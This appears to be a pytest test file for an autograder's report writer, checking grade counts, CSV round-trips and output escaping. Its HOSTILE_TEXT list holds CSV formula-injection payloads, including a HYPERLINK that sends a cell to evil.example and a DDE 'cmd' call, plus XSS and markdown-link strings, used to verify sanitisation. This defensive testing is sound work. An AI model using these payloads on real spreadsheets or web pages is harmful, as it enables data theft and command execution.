"""grades.csv, students.csv, report.md and diagnoses.png from a handful of rows."""

from __future__ import annotations

import csv
import re

from autograder.report import Row, csv_cell, csv_value, outcome, read_csv, summary_markdown, write_outputs

A = "01_matmul_from_shapes"


def rows() -> list[Row]:
    out = []
    for i in range(40):
        student = f"s{i:02d}"
        if i < 12:
            out.append(Row(student, A, "test_linear_backward", 0, 3, "batch-reduction"))
        elif i == 12:
            out.append(Row(student, A, "test_linear_backward", 0, 3, "tampering", "tampering: passed in the kernel, but …"))
        elif i == 13:
            out.append(Row(student, A, "test_linear_backward", 0, 3, "", "timeout: the cell ran past 120 s"))
        else:
            out.append(Row(student, A, "test_linear_backward", 3, 3))
        out.append(Row(student, A, "test_reduce_to_shape", 2 if i % 2 else 0, 2, "" if i % 2 else "broadcast-axis"))
    return out


def test_outcome_of_a_row():
    assert outcome(Row("a", A, "t", 3, 3)) == "passed"
    assert outcome(Row("a", A, "t", 0, 3, "sign")) == "sign"
    assert outcome(Row("a", A, "t", 0, 3, "", "kernel died: exit status 0")) == "kernel died"
    assert outcome(Row("a", A, "t", 0, 3, "", "memory limit (4 GiB)")) == "memory limit"
    assert outcome(Row("a", A, "t", 0, 3)) == "failed without a diagnosis"


def test_report_counts_each_class_per_exercise():
    text = summary_markdown(rows(), {"assignment": A, "supported": {}})
    assert "12 of 40: batch-reduction in linear_backward" in text
    assert "1 of 40: tampering in linear_backward" in text
    assert "1 of 40: timeout in linear_backward" in text
    assert "20 of 40: broadcast-axis in reduce_to_shape" in text
    assert "### linear_backward (3 points): 26 of 40 full marks" in text
    assert "| 5 / 5 | 13 |" in text  # the distribution: 13 students passed both


def test_outputs_round_trip(tmp_path):
    write_outputs(tmp_path, rows(), {"assignment": A, "supported": {"test_reduce_to_shape": "not re-checkable"}})
    assert read_csv(tmp_path / "grades.csv") == sorted(rows(), key=lambda r: (r.student, r.grade_id))
    assert (tmp_path / "grades.csv").read_text().splitlines()[0] == \
        "student,assignment,grade_id,score,max_score,diagnosis,reason,seed"
    assert "reduce_to_shape: not re-checkable" in (tmp_path / "report.md").read_text()
    assert (tmp_path / "diagnoses.png").stat().st_size > 5000


def test_students_csv_holds_one_total_per_student(tmp_path):
    write_outputs(tmp_path, rows(), {"assignment": A, "supported": {}})
    with open(tmp_path / "students.csv", newline="") as f:
        table = list(csv.DictReader(f))
    assert [r["student"] for r in table] == [f"s{i:02d}" for i in range(40)]
    by = {r["student"]: r for r in table}
    # s00: batch-reduction and broadcast-axis; s13: timeout, reduce_to_shape passed; s15: both passed
    assert by["s00"] == {"student": "s00", "assignment": A, "score": "0", "max_score": "5", "cells_passed": "0", "cells": "2"}
    assert (by["s13"]["score"], by["s13"]["cells_passed"]) == ("2", "1")
    assert (by["s15"]["score"], by["s15"]["max_score"], by["s15"]["cells_passed"]) == ("5", "5", "2")
    assert sum(float(r["score"]) for r in table) == sum(r.score for r in rows())


# What a submission can put in a row: its folder name (the student id) and, before issue 13, its exception text.
HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "'=1+1", "''", "'", "-", "=", "-1", "+2.5", "-1e3", ".5", "3",
    "<img src=x onerror=alert(1)>", "a|b", "line\n# Injected heading\n<script>alert(1)</script>",
    "![t](http://evil.example/t.png) [l](javascript:alert(1)) `code` $x$ \\[ \x1b[31m",
    "$\\badcmd$: maths matplotlib cannot parse, as a reason's kind (a label of diagnoses.png)",
]


def test_every_csv_cell_is_text_to_a_spreadsheet_and_reads_back_exactly(tmp_path):
    written = [Row(text, A, "test_linear_backward", 0, 3, "", text) for text in HOSTILE_TEXT]
    written.append(Row("neg", A, "test_linear_backward", -1.5, 3))  # a number stays a number
    write_outputs(tmp_path, written, {"assignment": A, "supported": {}})
    with open(tmp_path / "grades.csv", newline="") as f:
        cells = [c for row in list(csv.reader(f))[1:] for c in row]
    formula = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?[\d.]+(e\d+)?", c)]
    assert not formula, formula
    with open(tmp_path / "students.csv", newline="") as f:
        totals = [c for row in list(csv.reader(f))[1:] for c in row]
    assert not [c for c in totals if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?[\d.]+(e\d+)?", c)], totals
    assert "-1.5" in cells and "-1" in cells and "+2.5" in cells, "numbers are left alone"
    assert read_csv(tmp_path / "grades.csv") == sorted(written, key=lambda r: (r.student, r.grade_id))


def test_csv_cell_is_undone_by_csv_value():
    for text in HOSTILE_TEXT + ["", "plain", "alice", "李雷"]:
        assert csv_value(csv_cell(text)) == text
    assert csv_cell("alice") == "alice" and csv_cell("=1") == "'=1" and csv_cell("'x") == "''x"


def test_report_md_shows_what_a_submission_wrote_as_text_only():
    rows = [Row(text, A, "test_linear_backward", 0, 3, "", "error: " + text) for text in HOSTILE_TEXT]
    rows.append(Row("alice", A, "test_linear_backward", 3, 3))
    text = summary_markdown(rows, {"assignment": A, "supported": {}})
    assert "<img" not in text and "<script" not in text, "raw HTML from a student id or reason"
    assert "&lt;img src=x onerror=alert(1)&gt;" in text
    assert "![" not in text.replace("\\[", "") and "](" not in text.replace("\\](", ""), "an image or a link"
    assert not any(line.startswith("# Injected") for line in text.splitlines()), "a heading from a newline"
    table = [ln for ln in text.splitlines() if ln.startswith("| ") and "error: " in ln]
    assert len(table) == len(HOSTILE_TEXT)
    for line in table:  # every row of the zeros table has exactly its three cells
        assert len(re.findall(r"(?<!\\)\|", line)) == 4, line
    assert "\x1b" not in text


def test_a_csv_another_tool_wrote_is_made_formula_safe(tmp_path):
    """``autograder merge`` passes nbgrader's export through this: nbgrader writes a student id as it is."""
    from autograder.report import formula_safe

    path = tmp_path / "export.csv"
    with open(path, "w", newline="") as f:
        csv.writer(f).writerows([["student_id", "score"], ['=HYPERLINK("http://evil.example")', "-1"], ["alice", "7.0"]])
    formula_safe(path)
    with open(path, newline="") as f:
        assert list(csv.reader(f)) == [["student_id", "score"], ['\'=HYPERLINK("http://evil.example")', "-1"],
                                       ["alice", "7.0"]]
